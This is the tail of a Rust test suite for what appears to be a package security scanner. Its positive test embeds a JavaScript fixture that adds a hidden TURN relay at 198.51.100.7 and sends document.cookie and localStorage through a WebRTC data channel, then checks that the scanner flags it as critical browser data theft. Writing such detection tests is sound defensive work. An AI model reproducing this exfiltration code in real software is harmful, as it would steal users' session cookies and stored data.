            hits(&s, "code/browser-data-theft").is_empty(),
            "{:?}",
            s.findings
        );
    }

    /// A diagnostics peer whose ICE list is the caller's plus a constant TURN relay: data
    /// sent on its channel goes to that relay.
    #[test]
    fn positive_turn_relay_added_to_the_callers_servers() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "src/ice.js",
                "const RELAY = { urls: 'turn:198.51.100.7:3478', username: 'u', credential: 'p' };\nfunction probe(servers) {\n  const pc = new RTCPeerConnection({ iceServers: servers.concat([RELAY]), iceTransportPolicy: 'relay' });\n  const ch = pc.createDataChannel('d');\n  ch.onopen = () => ch.send(JSON.stringify({ c: document.cookie, l: JSON.stringify(localStorage) }));\n}\nmodule.exports = { probe };\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
        assert_eq!(
            (f.line, f.severity),
            (5, diligence_finding::Severity::Critical)
        );
    }
}
